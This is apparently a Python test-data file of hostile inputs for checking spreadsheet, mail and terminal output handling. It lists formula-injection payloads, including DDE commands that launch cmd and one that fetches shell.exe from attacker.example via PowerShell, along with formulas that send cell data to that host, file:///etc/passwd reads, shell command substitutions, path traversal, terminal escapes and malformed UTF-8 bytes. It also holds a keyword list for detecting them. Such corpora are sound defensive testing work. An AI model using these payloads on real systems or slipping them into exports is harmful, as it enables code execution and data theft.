"""Texts that spreadsheets, mail programs and terminals have been known to take for something else."""

FORMULAS = [
    "=1+1", "+1+1", "-1+1", "@SUM(1+1)", "=A1", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "|calc", "%0A=1+1",
    "=cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "-cmd|' /C calc'!A0", "@cmd|' /C calc'!A0",
    "=2+5+cmd|' /C calc'!A0", "=cmd|'/c powershell IEX(wget attacker.example/shell.exe)'!A0",
    "DDE(\"cmd\";\"/C calc\";\"x\")", "=DDE(\"cmd\";\"/C calc\";\"x\")", "=MSEXCEL|'\\..\\..\\cmd.exe'!''",
    "=HYPERLINK(\"http://attacker.example/?x=\"&A1,\"click\")", "=WEBSERVICE(\"http://attacker.example\")",
    "=IMPORTXML(\"http://attacker.example\",\"//a\")", "=IMPORTDATA(\"http://attacker.example\")",
    "=IMPORTFEED(\"http://attacker.example\")", "=IMPORTHTML(\"http://attacker.example\",\"table\",1)",
    "=IMPORTRANGE(\"x\",\"A1\")", "=IMAGE(\"http://attacker.example/a.png\")", "=RTD(\"x\",,\"y\")",
    "=CALL(\"kernel32\",\"WinExec\",\"JCJ\",\"calc\",0)", "=REGISTER.ID(\"a\",\"b\")", "=EXEC(\"calc\")",
    "='file:///etc/passwd'#$passwd.A1", "=INDIRECT(\"A1\")", "=FILTERXML(\"<a/>\",\"/a\")",
    "＝1+1", "＋1+1", "－1+1", "＠SUM(1+1)", "﹦1+1", "\ufeff=1+1", "\u200b=1+1", "\u00a0=1+1", "'=1+1",
    "\"=1+1", "=\"a\"&\"b\"", "{=1+1}", "=1+1;=2+2", "a,=1+1", "a\n=1+1", "a\r\n+1", "=-+1", "=@A1", "==1",
    "=SUM(Listings[Group])", "=hours_per_year*0", "of:=1+1", "=LAMBDA(x,x)(1)", "_x003D_1+1", "&#61;1",
    "javascript:alert(1)", "file:///etc/passwd", "\\\\attacker.example\\share", "mailto:a@attacker.example",
]

MARKS = (
    "attacker", "cmd|", "calc", "HYPERLINK(", "WEBSERVICE(", "IMPORT", "DDE(", "RTD(", "CALL(", "EXEC(",
    "passwd", "1+1", "LAMBDA")

CHARACTERS = [
    "<b>&amp;\"'</b>", "]]>", "<![CDATA[x]]>", "<!--", "-->", "<?xml?>", "&e;", "&#0;", "&#x1F;",
    "_x000D_", "_x0000_", "_x005F_x000D_", "_xFFFF_", "a\x00b", "a\x01b", "a\x07b\x08", "a\x0bb\x0c",
    "a\x1bb[31m", "a\x1b]0;title\x07", "a\x7fb", "a\x85b", "a\x9bb", "a\ufffeb", "a\uffffb", "a\ufdd0b",
    "\u202egpj.exe", "\u2066a\u2069", "\u200fa\u200e", "a\u200bb", "a\u200db", "a\u2060b", "a\u00adb",
    "a\ufeffb", "a\u2028b\u2029c", "e" + "\u0301" * 300, "\U000e0041a", "\U0010fffdx", "👩‍👩‍👧‍👦", "Ａ",
    "%s%n%d", "{0}", "$(touch x)", "`touch x`", "../../etc/passwd", "x" * 40_000, "&P&D&F", "&&G",
]

# Bytes that are no text in the encoding that they are said to be in.
BYTES = {
    "NUL": b"a\x00b", "lone surrogates of CESU-8": b"\xed\xa0\x80a\xed\xb0\x80",
    "a pair of CESU-8": b"\xed\xa0\xbd\xed\xb8\x80", "overlong slash": b"\xc0\xaf\xe0\x80\xaf\xf0\x80\x80\xaf",
    "overlong NUL": b"\xc0\x80", "overlong equals sign": b"\xc0\xbd1+1", "beyond Unicode": b"\xf4\x90\x80\x80",
    "five bytes": b"\xf8\x88\x80\x80\x80", "cut character": b"\xe2\x82", "alone": b"\x80\xbf", "FE FF": b"\xfe\xff",
}
